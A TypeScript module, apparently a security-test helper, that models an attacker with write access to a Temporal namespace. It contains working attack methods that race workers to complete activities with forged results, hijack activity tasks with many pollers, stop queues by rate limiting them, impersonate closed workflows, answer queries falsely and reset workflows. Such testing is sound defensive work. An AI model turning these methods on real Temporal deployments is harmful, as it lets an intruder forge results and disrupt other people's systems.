import { setTimeout as pause } from 'node:timers/promises';
import { setMaxListeners } from 'node:events';
import { ActivityNotFoundError, type Client, type Connection } from '@temporalio/client';

/** Numbers of Temporal's API: enums of `temporal.api.enums.v1`. */
const SCHEDULE_ACTIVITY = 1;
const COMPLETE_WORKFLOW = 4;
const ACTIVITY_COMPLETED = 12;
const ACTIVITY_FAILED = 13;
const ACTIVITY_TIMED_OUT = 14;
const ACTIVITY_QUEUE = 2;
const REAPPLY_NOTHING = 2;
const RUNNING = 1;

const POLL_MS = 20_000;
export const IDENTITY = 'alice@shop.example';

/** One of our workers was faster. The attack proves nothing and is retried. */
export class RaceLost extends Error {}

/** The result of an activity that the attacker scheduled. */
type ScheduledResult =
  | { readonly ok: true; readonly result: unknown }
  | { readonly ok: false; readonly type: string; readonly message: string };

/**
 * What an attacker with write access to a Temporal namespace can do, without keys and without database access. Uses the
 * server's gRPC API under an identity of its choice.
 */
export class NamespaceWriter {
  #nth = 0;

  constructor(
    readonly client: Client,
    readonly connection: Connection,
    readonly namespace: string,
  ) {}

  /** Schedules one activity on one of our queues from the attacker's own workflow, with any input. */
  async schedule(activity: string, taskQueue: string, input: unknown): Promise<ScheduledResult> {
    const queue = await this.#ownWorkflow();
    await this.#completeTask(queue, scheduling(activity, taskQueue, input));
    const { history } = await this.#completeTask(queue, completion());
    for (const event of history?.events ?? []) {
      if (event.eventType === ACTIVITY_COMPLETED)
        return { ok: true, result: decoded(event.activityTaskCompletedEventAttributes?.result) };
      const failure =
        event.eventType === ACTIVITY_FAILED
          ? event.activityTaskFailedEventAttributes?.failure
          : event.eventType === ACTIVITY_TIMED_OUT
            ? event.activityTaskTimedOutEventAttributes?.failure
            : null;
      if (failure != null)
        return { ok: false, type: failure.applicationFailureInfo?.type ?? 'timeout', message: failure.message ?? '' };
    }
    throw new Error(`${activity}: the history has no result, failure or timeout of the activity`);
  }

  /** Schedules an activity once for each input in one run of the attacker's workflow, each time under the same activity id. */
  async scheduleUnderOneId(activity: string, taskQueue: string, inputs: readonly unknown[]): Promise<void> {
    const queue = await this.#ownWorkflow();
    for (const input of inputs) await this.#completeTask(queue, scheduling(activity, taskQueue, input));
    await this.#completeTask(queue, completion());
  }

  /** Starts a workflow on a queue of the same name. */
  async #ownWorkflow(): Promise<string> {
    const queue = this.#newQueue();
    await this.client.workflow.start('mallory', { taskQueue: queue, workflowId: queue });
    return queue;
  }

  #newQueue(): string {
    return `mallory-${process.pid}-${++this.#nth}`;
  }

  /** Waits for a workflow task on the queue, answers it with the command, and returns the task. */
  async #completeTask(queue: string, command: object) {
    const task = await this.#workflowTask(queue);
    await this.connection.workflowService.respondWorkflowTaskCompleted({
      namespace: this.namespace,
      identity: IDENTITY,
      taskToken: task.taskToken,
      commands: [command],
    });
    return task;
  }

  async #workflowTask(queue: string, signal = new AbortController().signal) {
    const { workflowService: api } = this.connection;
    for (let tries = 0; tries < 3; tries++) {
      const task = await this.connection.withAbortSignal(signal, () =>
        this.connection.withDeadline(Date.now() + POLL_MS, () =>
          api.pollWorkflowTaskQueue({
            namespace: this.namespace,
            taskQueue: { name: queue },
            identity: IDENTITY,
          }),
        ),
      );
      if (task.taskToken.length > 0) return task;
    }
    throw new Error(`${queue}: no workflow task in ${(3 * POLL_MS) / 1000} s`);
  }

  /** Sets the rate limit of an activity queue to 0, so that workers get no tasks from it; `stopped: false` removes the limit. */
  async throttle(taskQueue: string, stopped: boolean): Promise<void> {
    const updateQueueRateLimit = stopped
      ? { rateLimit: { requestsPerSecond: 0 }, reason: 'maintenance' }
      : { reason: 'done' };
    await this.connection.workflowService.updateTaskQueueConfig({
      namespace: this.namespace,
      identity: IDENTITY,
      taskQueue,
      taskQueueType: ACTIVITY_QUEUE,
      updateQueueRateLimit,
    });
    // The limit takes effect with a delay in each partition of the queue.
    if (stopped) await pause(300);
  }

  /** The limit that `throttle` set, in tasks a second; null without a limit. */
  async rateLimit(taskQueue: string): Promise<number | null> {
    const { config } = await this.connection.workflowService.describeTaskQueue({
      namespace: this.namespace,
      taskQueue: { name: taskQueue },
      taskQueueType: ACTIVITY_QUEUE,
      reportConfig: true,
    });
    return config?.queueRateLimit?.rateLimit?.requestsPerSecond ?? null;
  }

  /** Waits until an activity of this type is pending in a workflow; returns its id. Throws RaceLost after 15 s, or once the workflow has ended. */
  async pending(workflowId: string, activity: string): Promise<string> {
    for (const until = Date.now() + 15_000; Date.now() < until; await pause(20)) {
      const { pendingActivities, workflowExecutionInfo } =
        await this.connection.workflowService.describeWorkflowExecution({
          namespace: this.namespace,
          execution: { workflowId },
        });
      const found = pendingActivities.find((each) => each.activityType?.name === activity);
      if (found?.activityId != null) return found.activityId;
      if (workflowExecutionInfo?.status !== RUNNING) break;
    }
    throw new RaceLost(`${activity} of ${workflowId} was not scheduled, or our worker completed it first`);
  }

  /** Completes a pending activity before its worker does. */
  async complete(workflowId: string, activity: string, result: unknown): Promise<void> {
    await this.race(workflowId, await this.pending(workflowId, activity), result);
  }

  /**
   * Completes an activity by its id as soon as it is scheduled, before its worker does. Eager activities bypass the queue and
   * its rate limit, but their ids (1, 2, 3 …) are predictable.
   */
  async race(workflowId: string, activityId: string, result: unknown): Promise<void> {
    let won = false;
    const until = Date.now() + 10_000;
    const one = async (): Promise<void> => {
      while (!won && Date.now() < until) {
        try {
          await this.client.activity.complete({ workflowId, activityId }, result);
          won = true;
        } catch (error) {
          if (!(error instanceof ActivityNotFoundError)) throw error;
        }
      }
    };
    await Promise.all(Array.from({ length: 6 }, one));
    if (!won)
      throw new RaceLost(`activity ${activityId} of ${workflowId} was not scheduled, or our worker completed it first`);
  }

  /**
   * Polls an activity queue like a worker, with many concurrent polls, and completes every task of one type with `result`.
   * The server serves the oldest poll first, so the polls have a long deadline.
   */
  poll(taskQueue: string, activity: string, result: unknown) {
    const stopping = new AbortController();
    setMaxListeners(0, stopping.signal);
    const stolen = new Set<string>();
    const queue = { namespace: this.namespace, taskQueue: { name: taskQueue }, identity: IDENTITY };
    const pollers = Array.from({ length: 24 }, () => this.#poller(queue, activity, result, stolen, stopping.signal));
    return {
      /** Ids of the workflows whose task was taken. */
      stolen: stolen as ReadonlySet<string>,
      stop: async (): Promise<void> => {
        stopping.abort();
        await Promise.all(pollers);
      },
    };
  }

  async #poller(
    queue: { readonly namespace: string; readonly taskQueue: { name: string }; readonly identity: string },
    activity: string,
    result: unknown,
    stolen: Set<string>,
    signal: AbortSignal,
  ): Promise<void> {
    const { workflowService: api } = this.connection;
    const { namespace, identity } = queue;
    while (!signal.aborted) {
      const task = await this.connection
        .withAbortSignal(signal, () =>
          this.connection.withDeadline(Date.now() + 60_000, () => api.pollActivityTaskQueue(queue)),
        )
        .catch((error: unknown) => {
          if (signal.aborted) return null;
          throw error;
        });
      if (task === null || task.taskToken.length === 0) continue;
      const { taskToken } = task;
      if (task.activityType?.name === activity) {
        stolen.add(task.workflowExecution?.workflowId ?? '');
        await api.respondActivityTaskCompleted({ namespace, identity, taskToken, result: payloads(result) });
      } else {
        // Not the wanted type: failed so that our worker gets the retry.
        const failure = { message: 'try again', applicationFailureInfo: { nonRetryable: false } };
        await api.respondActivityTaskFailed({ namespace, identity, taskToken, failure });
      }
    }
  }

  /** Starts a workflow of the attacker under the id of a closed review. The returned function lets it return a result. */
  async impersonate(workflowId: string): Promise<(result: unknown) => Promise<void>> {
    const queue = this.#newQueue();
    await this.client.workflow.start('review', {
      taskQueue: queue,
      workflowId,
      workflowIdReusePolicy: 'ALLOW_DUPLICATE',
    });
    return async (result) => void (await this.#completeTask(queue, completion(payloads(result))));
  }

  /** Makes a new run under the id of a closed review return this result. */
  async replace(workflowId: string, result: unknown): Promise<void> {
    const finish = await this.impersonate(workflowId);
    await finish(result);
  }

  /** Runs the attacker's own workflow under this id and answers every query of it. Returns a function that ends it. */
  async answerQueries(workflowId: string, answer: unknown): Promise<() => Promise<void>> {
    const { workflowService: api } = this.connection;
    const queue = this.#newQueue();
    const { namespace } = this;
    const handle = await this.client.workflow.start('mallory', { taskQueue: queue, workflowId });
    const first = await this.#workflowTask(queue);
    await api.respondWorkflowTaskCompleted({ namespace, identity: IDENTITY, taskToken: first.taskToken, commands: [] });
    const stopping = new AbortController();
    let failure: { readonly error: unknown } | null = null;
    const polling = (async (): Promise<void> => {
      while (!stopping.signal.aborted) {
        const { taskToken, query } = await this.#workflowTask(queue, stopping.signal);
        if (query != null)
          await api.respondQueryTaskCompleted({
            namespace,
            taskToken,
            completedType: 1,
            queryResult: payloads(answer),
          });
      }
    })().catch((error: unknown) => {
      if (!stopping.signal.aborted) failure = { error };
    });
    return async () => {
      stopping.abort();
      await polling;
      await handle.terminate('done');
      if (failure !== null) throw new Error('The queries were not answered', { cause: failure.error });
    };
  }

  /** Signals with a payload of this JSON text. */
  async signalText(workflowId: string, signalName: string, text: string): Promise<void> {
    await this.connection.workflowService.signalWorkflowExecution({
      namespace: this.namespace,
      workflowExecution: { workflowId },
      identity: IDENTITY,
      signalName,
      input: { payloads: [{ metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from(text) }] },
    });
  }

  /** Resets a workflow to its first workflow task without reapplying its messages. Returns the id of the new run. */
  async resetToStart(workflowId: string): Promise<string> {
    const { workflowService: api } = this.connection;
    const execution = { workflowId };
    const { history } = await api.getWorkflowExecutionHistory({ namespace: this.namespace, execution });
    const first = history?.events?.find((event) => event.workflowTaskCompletedEventAttributes != null);
    const { runId } = await api.resetWorkflowExecution({
      namespace: this.namespace,
      workflowExecution: execution,
      reason: 'maintenance',
      workflowTaskFinishEventId: first?.eventId ?? null,
      requestId: `reset-${process.pid}-${++this.#nth}`,
      resetReapplyType: REAPPLY_NOTHING,
    });
    return runId;
  }
}

const completion = (result: ReturnType<typeof payloads> | null = null): object => ({
  commandType: COMPLETE_WORKFLOW,
  completeWorkflowExecutionCommandAttributes: { result },
});

/** The command that schedules an activity, always under the same id. */
function scheduling(activity: string, taskQueue: string, input: unknown): object {
  const timeout = { seconds: 60 };
  return {
    commandType: SCHEDULE_ACTIVITY,
    scheduleActivityTaskCommandAttributes: {
      activityId: '1',
      activityType: { name: activity },
      taskQueue: { name: taskQueue },
      input: payloads(input),
      scheduleToCloseTimeout: timeout,
      startToCloseTimeout: timeout,
      heartbeatTimeout: timeout,
      retryPolicy: { maximumAttempts: 1 },
    },
  };
}

function payloads(value: unknown) {
  return {
    payloads: [{ metadata: { encoding: Buffer.from('json/plain') }, data: Buffer.from(JSON.stringify(value ?? null)) }],
  };
}

function decoded(
  of: { readonly payloads?: readonly { readonly data?: Uint8Array | null }[] | null } | null | undefined,
) {
  const data = of?.payloads?.[0]?.data;
  return data == null || data.length === 0 ? undefined : (JSON.parse(Buffer.from(data).toString('utf8')) as unknown);
}
